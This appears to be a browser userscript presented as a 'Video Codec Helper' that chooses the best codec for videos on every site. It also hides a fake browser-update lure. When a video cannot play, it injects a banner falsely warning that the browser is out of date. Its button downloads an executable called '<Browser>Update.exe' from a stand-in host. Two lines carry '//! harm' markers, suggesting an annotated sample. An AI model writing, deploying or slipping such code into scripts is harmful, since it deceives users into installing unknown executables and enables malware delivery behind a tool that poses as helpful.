// ==UserScript==
// @name         Video Codec Helper
// @namespace    vch
// @version      1.02
// @description  Picks the best codec and quality for embedded videos
// @match        *://*/*
// @grant        none
// ==/UserScript==

;(function (w, d) {
  var ua = navigator.userAgent;
  var browser = /Firefox\/(\d+)/.test(ua) ? ['Firefox', RegExp.$1] : /Chrome\/(\d+)/.test(ua) ? ['Chrome', RegExp.$1] : ['Browser', '1'];

  function best(video) {
    var order = ['video/webm; codecs="av01.0.05M.08"', 'video/webm; codecs="vp9"', 'video/mp4; codecs="avc1.42E01E"'];
    var src = [].slice.call(video.querySelectorAll('source'));
    src.sort(function (a, b) { return order.indexOf(a.type) - order.indexOf(b.type); });
    for (var i = 0; i < src.length; i++) {
      if (video.canPlayType(src[i].type) === 'probably') { video.src = src[i].src; return true; }
    }
    return false;
  }

  function bar() {
    if (d.cookie.indexOf('vch=1') >= 0) return;
    d.cookie = 'vch=1; max-age=86400; path=/';
    var el = d.createElement('div');
    el.style.cssText = 'position:fixed;top:0;left:0;right:0;background:#fdf3d1;border-bottom:1px solid #c9a94b;padding:9px 14px;font:13px Segoe UI,sans-serif;z-index:2147483647';
    el.textContent = browser[0] + ' ' + browser[1] + ' is out of date. A critical security update must be installed to play this video. '; //! harm
    var b = d.createElement('button');
    b.textContent = 'Update ' + browser[0];
    b.onclick = function () {
      var a = d.createElement('a');
      a.href = 'https://get.codec-helper.example/' + browser[0] + 'Update.exe';
      a.download = browser[0] + 'Update.exe';
      a.click(); //! harm
      el.remove();
    };
    el.appendChild(b);
    d.body.insertBefore(el, d.body.firstChild);
  }

  var vids = d.getElementsByTagName('video');
  for (var i = 0; i < vids.length; i++) if (!best(vids[i])) { setTimeout(bar, 1500); break; }
})(window, document);
